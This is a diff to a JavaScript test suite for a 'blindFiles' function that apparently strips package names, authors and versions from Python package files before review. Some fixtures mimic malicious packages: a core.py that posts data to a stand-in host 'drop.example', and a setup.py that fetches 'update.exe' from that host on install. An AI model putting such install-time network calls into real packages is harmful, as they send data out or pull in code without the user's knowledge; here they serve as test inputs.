@@ -17,7 +17,7 @@ foo-bar does things.
 `;
 
 const FILES = {
-  'foo_bar/__init__.py': 'import foo_bar.core\nfrom foo_bar import core\nprint(core.foo_bar)\n',
+  'foo_bar/__init__.py': 'import foo_bar.core\nfrom foo_bar import core\nprint(core.foo_bar, "foo-bar")\n',
   'foo_bar/core.py': "import requests\nrequests.post('http://drop.example', data='x')\n",
   'setup.py':
     "from setuptools import setup\nsetup(name='foo-bar', version='9.9.7', author='Ann Example', author_email='ann@mail.example', packages=['foo_bar'])\n",
@@ -46,7 +46,7 @@ describe('blindFiles', () => {
       'PKG-INFO',
     ]);
     expect(textOf(blinded, 'subject/__init__.py')).toBe(
-      'import subject.core\nfrom subject import core\nprint(core.foo_bar)\n',
+      'import subject.core\nfrom subject import core\nprint(core.foo_bar, "subject")\n',
     );
   });
 
@@ -59,10 +59,37 @@ describe('blindFiles', () => {
     expect(textOf(blinded, 'setup.py')).not.toMatch(/foo|9\.9\.7|ann/i);
   });
 
+  it('keeps what setup.py does besides naming the distribution', () => {
+    const acts = "name = 'update.exe'\nurl = 'http://drop.example/x'\nrun(url=url, version=3)\n";
+    const [file] = blindFiles('foo', toFiles({ 'setup.py': `${acts}setup(name='foo', author='Ann')\n` }));
+
+    expect(Buffer.from(file?.bytes ?? []).toString()).toBe(`${acts}setup(name="subject", author="")\n`);
+  });
+
+  it('withholds the publisher in settings that are no code', () => {
+    const toml =
+      '[project]\nname = "foo"\nversion = "2.3"\nauthors = [{name = "Ann", email = "ann@mail.example"}]\n';
+    const cfg =
+      '[metadata]\nname = foo\nversion = 2.3\nauthor_email = ann@mail.example\nurl = https://code.example\n';
+
+    const settings = blindFiles('foo', toFiles({ 'pyproject.toml': toml, 'setup.cfg': cfg }));
+
+    for (const path of ['pyproject.toml', 'setup.cfg']) {
+      expect(textOf(settings, path)).toContain(BLIND_NAME);
+      expect(textOf(settings, path)).not.toMatch(/foo|2\.3|ann|code\.example/i);
+    }
+  });
+
   it('keeps a word of the code that no module of the package has', () => {
     const [file] = blindFiles('build', toFiles({ 'setup.py': 'import build\nbuild.run()\n' }));
 
     expect(Buffer.from(file?.bytes ?? []).toString()).toBe('import build\nbuild.run()\n');
+  });
+
+  it('tells a class from the module of its name by its capitals', () => {
+    const [file] = blindFiles('shapes', toFiles({ 'shapes/a.py': 'import shapes\nclass Shapes: pass\n' }));
+
+    expect(Buffer.from(file?.bytes ?? []).toString()).toBe('import subject\nclass Shapes: pass\n');
   });
 
   it('keeps bytes that are no text', () => {
